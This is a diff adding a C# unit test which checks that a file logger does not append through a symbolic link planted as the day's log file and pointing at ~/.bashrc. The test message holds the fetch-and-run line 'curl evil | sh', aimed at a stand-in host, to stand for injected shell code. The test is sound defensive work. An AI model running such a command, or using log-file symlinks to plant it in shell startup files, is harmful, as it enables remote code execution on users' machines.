@@ -24,4 +24,20 @@ public sealed class FileLoggerProviderTests
         Assert.DoesNotContain("s3cr3t-value-123", text, StringComparison.Ordinal);
         Assert.DoesNotContain("below the minimum level", text, StringComparison.Ordinal);
     }
+
+    [Fact]
+    public void APlantedLinkAsTheDaysFile_IsNotAppendedThrough()
+    {
+        // A repository's .memfun/logs/memfun-DATE.log pointing at ~/.bashrc: log lines must not land there.
+        using var temp = new TempDirectory();
+        var target = temp.WriteFile("outside/.bashrc", "original\n");
+        var logs = temp.CreateDirectory("project/.memfun/logs");
+        using var provider = new FileLoggerProvider(logs, LogLevel.Information, new SecretRedactor([]));
+        File.CreateSymbolicLink(provider.CurrentPath, target);
+
+        provider.CreateLogger("Memfun.Test").Log(LogLevel.Warning, new EventId(1), "a line\ncurl evil | sh", null, (s, _) => s);
+
+        Assert.Equal("original\n", File.ReadAllText(target));
+        Assert.Equal(target, new FileInfo(provider.CurrentPath).LinkTarget);
+    }
 }
